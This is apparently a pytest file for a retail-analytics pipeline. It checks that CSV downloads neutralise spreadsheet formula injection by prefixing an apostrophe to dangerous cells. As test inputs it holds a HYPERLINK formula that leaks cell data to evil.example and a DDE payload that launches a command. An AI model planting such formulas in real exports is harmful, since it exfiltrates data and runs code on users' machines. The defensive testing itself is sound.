"""CSV downloads carry no cell a spreadsheet would run as a formula (CSV injection): text taken
from the data that starts with = + - @ (or a tab or carriage return) is prefixed with an apostrophe;
numbers and other text are written as they are."""

from __future__ import annotations

import datetime as dt
import io
import subprocess
import sys
from pathlib import Path

import pandas as pd
import pytest
from support.hostile_files import GOOD_ROW

from pipeline.analysis.rfm import compute_rfm
from pipeline.loading.dataset import clean_transactions, load_transactions
from pipeline.views.csv_download import spreadsheet_safe_csv
from ui.segments import SegmentsView

REPO_ROOT = Path(__file__).resolve().parents[2]
HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")'
DDE = "=cmd|' /C calc'!A0"


def read_back(data: bytes) -> pd.DataFrame:
    return pd.read_csv(io.BytesIO(data), dtype=str, keep_default_na=False)


@pytest.mark.parametrize("cell", [HYPERLINK, DDE, "+1+2", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1"])
def test_a_text_cell_a_spreadsheet_would_run_is_written_with_a_leading_apostrophe(cell):
    frame = pd.DataFrame({"Country": [cell, "United Kingdom"]})

    written = read_back(spreadsheet_safe_csv(frame))

    assert written["Country"].tolist() == [f"'{cell}", "United Kingdom"]


def test_numbers_blanks_and_ordinary_text_are_written_as_they_are():
    frame = pd.DataFrame(
        {
            "CustomerID": pd.array([12346, None], dtype="Int64"),
            "Monetary": [-4.5, 0.0],
            "Country": ["EIRE", None],
            "Description": ["?", "*Boombox Ipod Classic"],
        }
    )

    assert spreadsheet_safe_csv(frame) == frame.to_csv(index=False, lineterminator="\r\n").encode("utf-8")


def test_money_sums_are_written_without_binary_rounding_noise(sample_clean):
    """Monetary is a sum of prices: 28.2 is held as 28.200000000000003, and the download said so.
    Rounded to 10 places, each value reads as the amount it is and parses back to it."""
    clean, _ = sample_clean
    rfm = compute_rfm(clean)
    assert any(len(repr(value)) > 16 for value in rfm["Monetary"])  # the noise is in the data

    written = pd.read_csv(io.BytesIO(spreadsheet_safe_csv(rfm)), dtype={"Monetary": str})

    assert not written["Monetary"].str.contains(r"\.\d*(?:0000000|9999999)\d").any()
    assert written["Monetary"].astype(float).to_numpy() == pytest.approx(
        rfm["Monetary"].to_numpy(), rel=1e-11
    )


def test_a_carriage_return_inside_a_cell_cannot_start_a_row_with_a_formula():
    frame = pd.DataFrame({"Country": ["EIRE\r=cmd|' /C calc'!A0", "France"], "Monetary": [1.0, 2.0]})

    written = read_back(spreadsheet_safe_csv(frame))

    assert written["Country"].tolist() == ["EIRE\r=cmd|' /C calc'!A0", "France"]
    assert written["Monetary"].tolist() == ["1.0", "2.0"]


def test_a_category_column_is_made_safe_too():
    frame = pd.DataFrame({"Segment": pd.Categorical(["-x", "Champions"])})

    assert read_back(spreadsheet_safe_csv(frame))["Segment"].tolist() == ["'-x", "Champions"]


def formula_country_file(tmp_path: Path) -> Path:
    frame = pd.DataFrame([GOOD_ROW, {**GOOD_ROW, "CustomerID": "17851", "Country": HYPERLINK}])
    path = tmp_path / "formula.csv"
    frame.to_csv(path, index=False)
    return path


def test_the_segments_download_neutralises_a_formula_country_from_the_data(tmp_path):
    clean, _ = clean_transactions(load_transactions(formula_country_file(tmp_path)).transactions)
    rfm = compute_rfm(clean)
    assert HYPERLINK in rfm["Country"].tolist()  # the page shows the data as it is
    view = SegmentsView(rfm=rfm, as_of=dt.date(2010, 12, 2), transactions=len(clean), summary=pd.DataFrame())

    countries = read_back(view.csv())["Country"].tolist()

    assert f"'{HYPERLINK}" in countries and HYPERLINK not in countries


def test_the_rfm_command_writes_a_csv_without_runnable_formulas(tmp_path):
    out = tmp_path / "rfm.csv"
    result = subprocess.run(
        [sys.executable, "-m", "pipeline", "rfm", str(formula_country_file(tmp_path)), "--out", str(out)],
        cwd=REPO_ROOT,
        capture_output=True,
        text=True,
        timeout=120,
    )

    assert result.returncode == 0, result.stderr
    countries = read_back(out.read_bytes())["Country"].tolist()
    assert countries == ["United Kingdom", f"'{HYPERLINK}"]
